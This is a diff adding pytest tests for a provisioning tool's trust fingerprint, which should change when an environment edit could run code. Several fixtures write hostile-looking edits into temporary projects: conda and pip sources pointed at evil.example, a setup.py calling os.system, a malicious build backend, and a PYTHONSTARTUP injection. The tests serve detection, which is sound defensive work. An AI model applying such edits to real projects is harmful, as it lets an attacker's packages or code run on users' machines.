@@ -1,0 +1,83 @@
+"""The trust fingerprint: what can run code changes it, a pure dependency edit does not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from provisiond.spec import load_spec
+from provisiond.trust import fingerprint, under_prefix, what_changed
+
+BASE = """name: p
+channels:
+  - conda-forge
+dependencies:
+  - python=3.12
+  - numpy
+  - pip:
+    - -r requirements.txt
+    - -e ./lib
+variables:
+  MODEL_DIR: /data
+"""
+
+
+def project(tmp_path: Path, text: str = BASE) -> Path:
+    (tmp_path / "lib").mkdir(parents=True, exist_ok=True)
+    (tmp_path / "lib" / "pyproject.toml").write_text("[project]\nname = 'lib'\n")
+    (tmp_path / "requirements.txt").write_text("rich\n")
+    (tmp_path / ".env").write_text("TOKEN=one\n")
+    (tmp_path / "environment.yml").write_text(text)
+    return tmp_path
+
+
+def digest(directory: Path) -> tuple[str, dict[str, str]]:
+    fp = fingerprint(load_spec(directory / "environment.yml"), str(directory), directory / ".env")
+    return fp.digest, dict(fp.parts)
+
+
+def test_a_pure_dependency_edit_and_a_rotated_secret_keep_the_fingerprint(tmp_path: Path) -> None:
+    before, _ = digest(project(tmp_path))
+    (tmp_path / "environment.yml").write_text(BASE.replace("  - numpy\n", "  - numpy>=2\n  - scipy\n")
+                                              .replace("name: p", "name: renamed") + "# a comment\n")
+    (tmp_path / ".env").write_text("TOKEN=two  # rotated\n")
+    assert digest(tmp_path)[0] == before
+
+
+@pytest.mark.parametrize(("edit", "said"), [
+    (lambda d: (d / "environment.yml").write_text(BASE.replace("conda-forge", "https://evil.example/ch")),
+     "its environment.yml changed: channels"),
+    (lambda d: (d / "environment.yml").write_text(BASE.replace("  - conda-forge\n", "  - conda-forge\n  - nodefaults\n")),
+     "its environment.yml changed: channels"),
+    (lambda d: (d / "environment.yml").write_text(BASE.replace("    - -e ./lib\n", "    - -e ./lib\n    - -e .\n")),
+     "its environment.yml changed: pip: section"),
+    (lambda d: (d / "environment.yml").write_text(BASE.replace("/data", "/other")),
+     "its environment.yml changed: variables:"),
+    (lambda d: (d / "requirements.txt").write_text("rich\n--index-url https://evil.example/simple\n"),
+     "requirements.txt changed"),
+    (lambda d: (d / "lib" / "pyproject.toml").write_text("[build-system]\nbuild-backend = 'evil'\n"),
+     "lib/pyproject.toml changed"),
+    (lambda d: (d / "lib" / "setup.py").write_text("import os; os.system('id')\n"),
+     "lib/setup.py changed"),
+    (lambda d: (d / ".env").write_text("TOKEN=one\nPYTHONSTARTUP=/tmp/x.py\n"),
+     "its environment.yml changed: .env names"),
+])
+def test_what_can_run_code_changes_the_fingerprint(tmp_path: Path, edit, said: str) -> None:  # noqa: ANN001
+    before, parts = digest(project(tmp_path))
+    edit(tmp_path)
+    after, now = digest(tmp_path)
+    assert after != before
+    assert what_changed(parts, now, str(tmp_path), "environment.yml") == said
+
+
+def test_the_fingerprint_is_keyed_to_the_path(tmp_path: Path) -> None:
+    one, two = project(tmp_path / "one"), project(tmp_path / "two")
+    assert digest(one)[1] != {} and digest(one)[0] != digest(two)[0]
+
+
+def test_trusted_prefixes_match_whole_components() -> None:
+    assert under_prefix("/home/me/work/p", ["/home/me/work"])
+    assert under_prefix("/home/me/work", ["/home/me/work/"])
+    assert not under_prefix("/home/me/workshop/p", ["/home/me/work"])
+    assert not under_prefix("/home/me/work/p", [""])
